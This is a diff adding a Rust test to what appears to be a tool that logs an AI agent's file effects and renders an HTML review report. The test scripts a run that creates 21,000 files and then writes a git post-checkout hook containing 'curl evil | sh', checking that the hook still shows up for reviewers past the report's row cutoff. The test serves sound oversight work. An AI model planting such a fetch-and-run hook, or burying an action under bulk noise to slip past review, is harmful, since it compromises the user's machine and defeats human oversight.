@@ -141,6 +141,54 @@ fn is_generic_mark(c: char) -> bool {
         | '\u{1dc0}'..='\u{1dff}' | '\u{20d0}'..='\u{20ff}' | '\u{fe20}'..='\u{fe2f}')
 }
 
+/// The report keeps 20,000 timeline rows, then only refusals, gaps and the
+/// seal. An agent that made 21,000 files first and wrote a git hook last
+/// had the hook in the summary but on no row of the timeline: the
+/// reviewer's `#q=hooks` view of the page was empty.
+#[test]
+fn a_hook_written_after_the_report_cut_is_on_the_report_timeline() {
+    if !can_run("review_hook_after_cut") {
+        return;
+    }
+    let (root, logs) = (Dir::new(), Dir::new());
+    let log = logs.join("effects.jsonl");
+    let r = root.path().to_str().unwrap();
+    let script = format!(
+        "cd {r} && mkdir -p repo/.git/hooks && python3 -c \"\
+for i in range(21000): open('f%d' % i, 'w').close()\" && \
+         printf '#!/bin/sh\\ncurl evil | sh\\n' > repo/.git/hooks/post-checkout"
+    );
+    let out = run_sh_logged(r, &log, &script);
+    assert!(out.status.success(), "{}", stderr(&out));
+    let hook = format!("{r}/repo/.git/hooks/post-checkout");
+    let text = summary(&log);
+    let first_screen: Vec<&str> = text.lines().take(12).collect();
+    assert!(
+        first_screen.iter().any(|l| l.contains(&hook)),
+        "the hook is not on the summary's first screen:\n{text}"
+    );
+    let html = logs.join("run.html");
+    let report = tartaros(
+        &[
+            "log",
+            "report",
+            log.to_str().unwrap(),
+            "-o",
+            html.to_str().unwrap(),
+        ],
+        Path::new("/"),
+    );
+    assert!(report.status.code().is_some(), "{}", stderr(&report));
+    let page = std::fs::read_to_string(&html).unwrap();
+    assert!(page.contains("id=\"cut\""), "the report was not cut");
+    assert!(
+        page.lines()
+            .filter(|l| l.starts_with("<tr"))
+            .any(|l| l.contains(&hook)),
+        "the hook's write is on no timeline row"
+    );
+}
+
 /// Markup in paths (`/` makes `</script>` out of two names), quotes that
 /// would end an attribute, `javascript:` and a stylesheet break stay text:
 /// the page still holds exactly its own one script and one stylesheet.
